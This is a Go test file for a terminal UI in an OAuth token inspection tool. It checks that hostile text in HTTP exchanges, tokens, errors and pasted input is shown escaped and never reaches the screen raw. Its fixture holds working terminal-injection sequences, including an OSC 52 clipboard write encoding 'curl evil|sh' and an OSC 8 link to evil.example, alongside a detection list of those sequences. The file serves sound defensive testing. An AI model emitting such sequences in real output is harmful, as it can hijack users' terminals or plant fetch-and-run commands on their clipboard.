package tui

import (
	"encoding/json"
	"fmt"
	"strings"
	"testing"

	"github.com/xaatools/xaa/flow"
	"github.com/xaatools/xaa/flow/explain"
	"github.com/xaatools/xaa/flow/wire"
	"github.com/xaatools/xaa/inspect"
	"github.com/xaatools/xaa/inspect/inspecttest"
)

// hostile joins what a hostile party plants in a string: OSC 52, OSC 8,
// OSC 0, CSI 2J, a blinking SGR, the one-byte CSI, BEL, CR and
// bidirectional controls.
const hostile = "P\x1b]52;c;Y3VybCBldmlsfHNo\x07A\x1b]8;;https://evil.example\x1b\\link\x1b]8;;\x1b\\Y\x1b]0;pwned\x07L\x1b[2JO\x1b[5;31mA\u009b2JD\x07!\rX\u202eY\u2066Z"

// hostileStep is a step record whose every outside string is hostile: the
// exchange's URL, headers and bodies, the error, the notes, a token's
// header and claims and a check's values.
func hostileStep(t *testing.T, id flow.StepID) *flow.Step {
	x := exchange(hostile, "idp", "POST", "https://idp.example/token?x="+hostile, "application/x-www-form-urlencoded", "a="+hostile,
		400, `{"error":"invalid_grant","error_description":"`+hostile+`"}`)
	x.Response.Header.Set("X-Hostile", hostile)
	tok := inspecttest.Fixed("k"+hostile).Mint(t, "JWT", inspecttest.Claims("iss", hostile, "sub", hostile, "aud", hostile, "client_id", hostile,
		"jti", hostile, "exp", testNow.Add(5*60e9).Unix(), "iat", testNow.Unix()), nil)
	a := analyse(t, tok, "access_token", nil, "", inspect.Expect{Now: testNow, Issuer: "https://idp.example"})
	err := &wire.OAuthError{Status: 400, Code: "invalid_grant" + hostile, Description: hostile, Source: "token endpoint"}
	st := &flow.Step{ID: id, Status: inspect.StatusFail, Started: testNow, Exchanges: []*wire.Exchange{x}, Tokens: []inspect.Analysis{a},
		Checks: inspect.Report{{ID: "x.y", Status: inspect.StatusFail, Title: "t", Expected: hostile, Actual: hostile, Hint: hostile}},
		Err:    err, Explanation: explain.Error(id, err), Notes: []string{hostile}}
	return st
}

func assertScreenSafe(t *testing.T, name, view string) {
	t.Helper()
	for _, f := range []string{"\x1b]", "\x1b[2J", "\x1b[5;31m", "\u009b", "\a", "\r", "\u202e", "\u2066"} {
		if strings.Contains(view, f) {
			t.Errorf("%s: the screen carries %q from a hostile party", name, f)
		}
	}
	if !strings.Contains(view, `\x1b]52;c;`) {
		t.Errorf("%s: the payload never reached the screen (made visible): the test proves nothing", name)
	}
}

// TestHostileTextNeverReachesTheScreen: hostile records in every tab of
// the flow screen, the side by side view, the chain, and a hostile paste
// in the decoder. The screen shows the payload made visible, never raw.
func TestHostileTextNeverReachesTheScreen(t *testing.T) {
	cfg := testConfig()
	pass := passingSteps(t)
	for tab := 1; tab <= 6; tab++ {
		t.Run(fmt.Sprintf("tab %d", tab), func(t *testing.T) {
			m := newTestModel(t, Options{Config: cfg, Now: testNow}, 120, 200)
			m = withSteps(m, pass[0], pass[1], hostileStep(t, flow.StepTokenExchange))
			m = press(t, m, "down", "down", fmt.Sprint(tab))
			assertScreenSafe(t, "tab", m.View())
		})
	}
	t.Run("side by side", func(t *testing.T) {
		m := newTestModel(t, Options{Config: cfg, Now: testNow}, 120, 60)
		m = withSteps(m, pass[0], pass[1], hostileStep(t, flow.StepTokenExchange))
		m.flow.session.Keep(hostileStep(t, flow.StepTokenExchange), true)
		m.flow.show(false)
		m = press(t, m, "down", "down", "s")
		assertScreenSafe(t, "side by side", m.View())
	})
	t.Run("decoder", func(t *testing.T) {
		m := newTestModel(t, Options{Screen: "decoder"}, 120, 80)
		tok := inspecttest.Fixed("k1").Mint(t, "JWT", inspecttest.Claims("iss", hostile, "sub", hostile, "email", hostile, "exp", testNow.Unix()), nil)
		note, _ := json.Marshal(hostile)
		m = paste(t, m, `{"access_token":"`+tok+`","note":`+string(note)+`}`)
		assertScreenSafe(t, "decoder", m.View())
	})
}
